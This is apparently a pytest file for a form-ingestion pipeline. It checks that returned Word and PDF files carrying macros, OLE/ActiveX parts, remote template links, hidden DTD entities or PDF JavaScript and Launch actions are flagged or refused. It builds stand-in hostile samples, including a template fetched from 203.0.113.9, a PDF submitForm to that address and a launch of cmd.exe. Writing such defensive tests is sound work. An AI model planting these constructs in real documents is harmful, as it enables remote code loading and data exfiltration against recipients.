"""Returns carrying macros, controls, outside links or PDF scripts are kept but flagged; a package
that cannot be trusted (two document.xml, a DTD in any part) is refused."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pikepdf
import pytest
from sqlalchemy import select

from conftest import make_workspace, needs_soffice
from pipeline import api
from pipeline.errors import InputFileError
from pipeline.forms import get
from pipeline.parse.active import pdf_findings
from pipeline.store import open_store
from pipeline.store.models import Submission
from pipeline.store.originals import original_path
from pipeline.testing import fill_form, sample_rows

FORM = "002-person-assessment"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


@pytest.fixture
def filled(tmp_path) -> tuple:
    ws = make_workspace(tmp_path)
    person = next(p for p in ws.roster if p.department == "财务处")
    api.make_forms(ws, person=person.staff_id, form_type=FORM, progress=False, jobs=1)
    issued = next((ws.outbox / "forms").rglob("*.docx"))
    path = fill_form(issued, tmp_path / "filled.docx", get(FORM), sample_rows(person.name, get(FORM), ["三级", "二级", "一级"]))
    return ws, path


def _rewrite(src: Path, dst: Path, *, add: dict[str, bytes] | None = None, edit: dict | None = None,
             duplicate: str | None = None) -> Path:
    """Copy a .docx member by member, adding parts, editing parts (name → function) or writing one twice."""
    with zipfile.ZipFile(src) as z:
        parts = [(i.filename, z.read(i)) for i in z.infolist()]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts:
            z.writestr(name, (edit or {}).get(name, lambda d: d)(data))
            if name == duplicate:
                z.writestr(name, data.replace("风险".encode(), "伪造".encode()))
        for name, data in (add or {}).items():
            z.writestr(name, data)
    dst.write_bytes(out.getvalue())
    return dst


def _codes(path: Path) -> list[str]:
    return [p.code for p in api.parse_file(path).problems]


def test_macros_are_flagged_and_the_original_kept(filled, tmp_path) -> None:
    ws, path = filled
    macro = _rewrite(path, ws.inbox / "带宏.docm", add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake vba"},
                     edit={"[Content_Types].xml": lambda d: d.replace(
                         b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                         b"application/vnd.ms-word.document.macroEnabled.main+xml")})
    form = api.parse_file(macro)
    (problem,) = [p for p in form.problems if p.code == "active_content"]
    assert "宏" in problem.message and form.risks, "the form is still read"
    summary = api.ingest(ws, progress=False)
    (result,) = summary.files
    assert result.status == "needs_revision" and any("宏" in p for p in result.problems)
    assert original_path(ws.originals, result.sha256).read_bytes() == macro.read_bytes()


def test_outside_links_controls_and_ole_are_flagged_hyperlinks_are_not(filled, tmp_path) -> None:
    _, path = filled
    rels = "word/_rels/document.xml.rels"

    def link(kind: str, target: str):
        tag = f'<Relationship Id="rIdLz9" Type="{kind}" Target="{target}" TargetMode="External"/>'.encode()
        return lambda d: d.replace(b"</Relationships>", tag + b"</Relationships>")

    template = _rewrite(path, tmp_path / "remote.docx", edit={rels: link(ATTACHED, "http://203.0.113.9/x.dotm")})
    assert "外部链接" in api.parse_file(template).problems[-1].message
    hyper = _rewrite(path, tmp_path / "hyper.docx", edit={rels: link(HYPERLINK, "https://www.gov.cn/")})
    assert "active_content" not in _codes(hyper)
    ole = _rewrite(path, tmp_path / "ole.docx", add={"word/embeddings/oleObject1.bin": b"x",
                                                   "word/activeX/activeX1.xml": b"<ax/>"})
    message = next(p.message for p in api.parse_file(ole).problems if p.code == "active_content")
    assert "OLE" in message and "ActiveX" in message
    assert "active_content" not in _codes(path)


@pytest.mark.filterwarnings("ignore:Duplicate name")  # writing the hostile zip warns, as it should
def test_two_document_parts_or_a_dtd_anywhere_are_refused(filled, tmp_path) -> None:
    ws, path = filled
    twice = _rewrite(path, ws.inbox / "双份正文.docx", duplicate="word/document.xml")
    with pytest.raises(InputFileError, match="重名的部件"):
        api.parse_file(twice)
    dtd = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'.encode("utf-16")
    hidden = _rewrite(path, ws.inbox / "藏实体.docx", add={"customXml/item9.xml": dtd})
    with pytest.raises(InputFileError, match="DOCTYPE"):
        api.parse_file(hidden)
    summary = api.ingest(ws, progress=False)
    assert {f.path: f.status for f in summary.files} == {"双份正文.docx": "rejected", "藏实体.docx": "rejected"}
    assert len(list(ws.quarantine.glob("*.docx"))) == 2


@pytest.mark.parametrize("part", ["word/styles.xml", "word/document.xml", "word/_rels/document.xml.rels"])
def test_a_dtd_behind_a_long_comment_that_looks_like_markup_is_refused(filled, tmp_path, part) -> None:
    """Comments may stand before a DTD and hold anything, "<w:p>" too: the prolog runs past them,
    however long, in the parts the reader parses and in those it only looks at."""
    _, path = filled
    comment = "<!-- 由 <w:p> 模板生成 " + "说明" * 1000 + " -->"

    def hide(data: bytes) -> bytes:
        head, sep, rest = data.partition(b"?>")
        return head + sep + comment.encode() + b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + rest

    with pytest.raises(InputFileError, match="DOCTYPE"):
        api.parse_file(_rewrite(path, tmp_path / "注释后藏实体.docx", edit={part: hide}))
    harmless = _rewrite(path, tmp_path / "只有注释.docx", edit={part: lambda d: d.replace(b"?>", b"?>" + comment.encode(), 1)})
    assert api.parse_file(harmless).risks, "a comment alone is no reason to refuse"


def _pdf_with(action: dict) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(action))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)  # the action hidden in an object stream
    return out.getvalue()


def test_pdf_scripts_and_launch_actions_are_found_inside_object_streams(tmp_path) -> None:
    script = _pdf_with({"/S": pikepdf.Name.JavaScript, "/JS": pikepdf.String("app.alert(1)")})
    assert b"/JavaScript" not in script  # not visible in the raw bytes
    (problem,) = pdf_findings(tmp_path / "a.pdf", script)
    assert "JavaScript" in problem.message
    launch = _pdf_with({"/S": pikepdf.Name.Launch, "/F": pikepdf.String("cmd.exe")})
    assert "启动外部程序" in pdf_findings(tmp_path / "b.pdf", launch)[0].message
    plain = pikepdf.new()
    plain.add_blank_page()
    out = io.BytesIO()
    plain.save(out)
    assert pdf_findings(tmp_path / "c.pdf", out.getvalue()) == []


@needs_soffice
def test_a_returned_pdf_with_javascript_is_flagged(filled, tmp_path) -> None:
    from pipeline._exec import soffice

    ws, path = filled
    (exported,) = soffice.convert([path], tmp_path / "pdf")
    with pikepdf.open(exported) as pdf:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
            {"/S": pikepdf.Name.JavaScript, "/JS": pikepdf.String("this.submitForm('http://203.0.113.9')")}))
        pdf.save(ws.inbox / "带脚本.pdf")
    summary = api.ingest(ws, progress=False)
    (result,) = summary.files
    assert result.status == "needs_revision" and any("JavaScript" in p for p in result.problems)
    with open_store(ws.database_url)() as s:
        assert s.scalar(select(Submission.status)) == "needs_revision"
